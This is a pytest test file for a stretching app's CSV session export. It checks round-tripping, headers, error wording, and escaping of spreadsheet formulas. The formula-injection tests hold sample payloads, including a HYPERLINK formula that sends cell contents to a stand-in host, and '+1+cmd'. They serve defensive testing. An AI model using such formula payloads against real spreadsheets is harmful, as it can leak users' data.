"""The CSV export: a spreadsheet reads it, and it reads back as exactly what was written."""

from __future__ import annotations

import csv
import re
from dataclasses import replace
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from backspasm_gui.core.errors import ContentError
from backspasm_gui.core.history import HoldRecord, SessionRecord
from backspasm_gui.storage.csv_export import (
    COLUMNS,
    FORMULA_STARTS,
    ExportError,
    as_text,
    from_text,
    read_csv,
    row,
    write_csv,
)
from tests.simulated import month

NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")  # what a spreadsheet takes for a number

ZONE = timezone(timedelta(hours=1))
ODD_NAME = "Child's Pose, “easy”"


@pytest.fixture(scope="module")
def a_month() -> list[SessionRecord]:
    return month()


@pytest.fixture
def odd() -> SessionRecord:
    started = datetime(2026, 11, 30, 9, 5, 7, 250000, tzinfo=ZONE)
    return SessionRecord(
        started,
        started + timedelta(minutes=4, seconds=30),
        (
            HoldRecord("childs-pose", ODD_NAME, None, 45, True),
            HoldRecord("knee-to-chest", 'Knee "to" Chest;\nleft', "left", 30, False),
            HoldRecord("knee-to-chest", "Genou à la poitrine", "right", 30, True),
        ),
        pain_before=0,
        pain_after=10,
        id=12,
    )


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as source:
        return list(csv.DictReader(source))


def test_a_month_reads_back_exactly(tmp_path: Path, a_month: list[SessionRecord]) -> None:
    path = tmp_path / "sessions.csv"
    write_csv(a_month, path)
    assert read_csv(path) == a_month


def test_the_header_names_the_columns_a_clinician_reads(
    tmp_path: Path, a_month: list[SessionRecord]
) -> None:
    path = tmp_path / "sessions.csv"
    write_csv(a_month, path)
    with path.open(encoding="utf-8-sig", newline="") as source:
        header = next(csv.reader(source))
    assert header == list(COLUMNS)
    assert header[:11] == [
        "id",
        "date",
        "started",
        "ended",
        "minutes",
        "holds_done",
        "holds_planned",
        "outcome",
        "skipped",
        "pain_before",
        "pain_after",
    ]
    assert len(rows(path)) == len(a_month)


def test_each_row_says_in_words_what_happened(tmp_path: Path, odd: SessionRecord) -> None:
    path = tmp_path / "sessions.csv"
    write_csv([odd], path)
    (row,) = rows(path)
    assert row["id"] == "12"
    assert row["date"] == "2026-11-30"
    assert row["started"] == "2026-11-30T09:05:07.250000+01:00"
    assert row["minutes"] == "4.5"
    assert (row["holds_done"], row["holds_planned"]) == ("2", "3")
    assert row["outcome"] == "stopped early"
    assert row["skipped"] == 'Knee "to" Chest;\nleft'
    assert (row["pain_before"], row["pain_after"]) == ("0", "10")


def test_each_row_names_the_routine_its_session_followed(
    tmp_path: Path, odd: SessionRecord
) -> None:
    prescribed = replace(odd, id=13, routine="Prescribed by Dr Ana Ruiz, 1 December 2026")
    path = tmp_path / "sessions.csv"
    write_csv([odd, prescribed], path, handout="Back Spasm Stretches & Exercises")
    named = [row["routine"] for row in rows(path)]
    # the first was stored before sessions named their routine: it followed the handout's
    assert named == ["Back Spasm Stretches & Exercises", prescribed.routine]
    assert read_csv(path)[1] == prescribed


def test_a_file_from_before_the_routine_column_still_reads(
    tmp_path: Path, odd: SessionRecord
) -> None:
    path = tmp_path / "sessions.csv"
    write_csv([odd], path)
    with path.open(encoding="utf-8-sig", newline="") as source:
        table = list(csv.reader(source))
    at = table[0].index("routine")
    with path.open("w", encoding="utf-8-sig", newline="") as out:
        csv.writer(out).writerows([cells[:at] + cells[at + 1 :] for cells in table])
    assert read_csv(path) == [odd]


def test_names_with_commas_quotes_and_accents_survive(tmp_path: Path, odd: SessionRecord) -> None:
    path = tmp_path / "sessions.csv"
    write_csv([odd], path)
    assert read_csv(path) == [odd]
    assert ODD_NAME in path.read_text(encoding="utf-8-sig")


def test_the_file_starts_with_a_byte_order_mark_for_excel(
    tmp_path: Path, odd: SessionRecord
) -> None:
    path = tmp_path / "sessions.csv"
    write_csv([odd], path)
    assert path.read_bytes().startswith(b"\xef\xbb\xbfid,date,")


def test_unrated_unsaved_and_running_sessions_read_back(tmp_path: Path, odd: SessionRecord) -> None:
    running = replace(odd, id=None, pain_before=None, pain_after=None, in_progress=True)
    finished = replace(odd, id=13, finished=True, started=odd.started + timedelta(hours=1))
    path = tmp_path / "sessions.csv"
    write_csv([running, finished], path)
    assert [row["outcome"] for row in rows(path)] == ["in progress", "finished"]
    assert read_csv(path) == [running, finished]


def test_no_sessions_write_just_the_header(tmp_path: Path) -> None:
    path = tmp_path / "sessions.csv"
    write_csv([], path)
    assert rows(path) == []
    assert read_csv(path) == []


def test_writing_replaces_the_file_whole_and_leaves_no_temporary(
    tmp_path: Path, a_month: list[SessionRecord], odd: SessionRecord
) -> None:
    path = tmp_path / "sessions.csv"
    write_csv(a_month, path)
    write_csv([odd], path)
    assert read_csv(path) == [odd]
    assert [p.name for p in tmp_path.iterdir()] == ["sessions.csv"]


def test_an_unwritable_place_raises_one_clear_sentence(tmp_path: Path, odd: SessionRecord) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("", encoding="utf-8")
    path = blocker / "sessions.csv"
    with pytest.raises(OSError, match="could not be saved") as caught:
        write_csv([odd], path)
    assert isinstance(caught.value, ExportError)
    sentence = str(caught.value)
    assert sentence.startswith(f"The sessions could not be saved to {path}: ")
    assert sentence.endswith(".")
    assert caught.value.strerror  # the system's reason, for callers that word it their way
    assert [p.name for p in tmp_path.iterdir()] == ["file"]


def test_a_damaged_row_is_named_as_a_spreadsheet_numbers_it(
    tmp_path: Path, odd: SessionRecord
) -> None:
    path = tmp_path / "sessions.csv"
    write_csv([odd, replace(odd, id=13)], path)
    text = path.read_text(encoding="utf-8-sig")
    second = text.rindex(",stopped early,")  # the first row spans two lines of the file
    text = text[:second] + ",gave up," + text[second + len(",stopped early,") :]
    path.write_text(text, encoding="utf-8-sig")
    with pytest.raises(ContentError, match=r"^sessions\.csv, row 3: outcome"):
        read_csv(path)


# --- no cell runs as a formula --------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"],
)
def test_a_name_that_would_be_a_formula_is_written_as_text_and_reads_back(
    tmp_path: Path, odd: SessionRecord, name: str
) -> None:
    session = replace(
        odd, routine=name, holds=(HoldRecord("knee-to-chest", name, "left", 30, False),)
    )
    path = tmp_path / "sessions.csv"
    write_csv([session], path)
    (row,) = rows(path)
    assert (row["skipped"], row["routine"]) == ("'" + name, "'" + name)
    assert read_csv(path) == [session]


def test_a_name_beginning_with_the_quote_itself_reads_back_as_it_was(
    tmp_path: Path, odd: SessionRecord
) -> None:
    session = replace(odd, routine="'=quoted'")
    path = tmp_path / "sessions.csv"
    write_csv([session], path)
    assert rows(path)[0]["routine"] == "''=quoted'"
    assert read_csv(path) == [session]


@pytest.mark.parametrize(("text", "written"), [("-5", "-5"), ("+2.5", "+2.5"), ("-1_0", "'-1_0")])
def test_numbers_stay_numbers(text: str, written: str) -> None:
    assert as_text(text) == written


@settings(max_examples=300, deadline=2000)
@given(st.text(max_size=30))
def test_no_routine_name_becomes_a_formula_and_every_one_reads_back(name: str) -> None:
    started = datetime(2026, 11, 30, 9, 5, tzinfo=ZONE)
    hold = HoldRecord("a", name, None, 30, False)
    session = SessionRecord(started, started, (hold,), routine=name)
    cells = row(session)
    for cell in (cells["routine"], cells["skipped"]):
        assert not cell.startswith(FORMULA_STARTS) or NUMBER.fullmatch(cell)
    assert from_text(cells["routine"]) == name
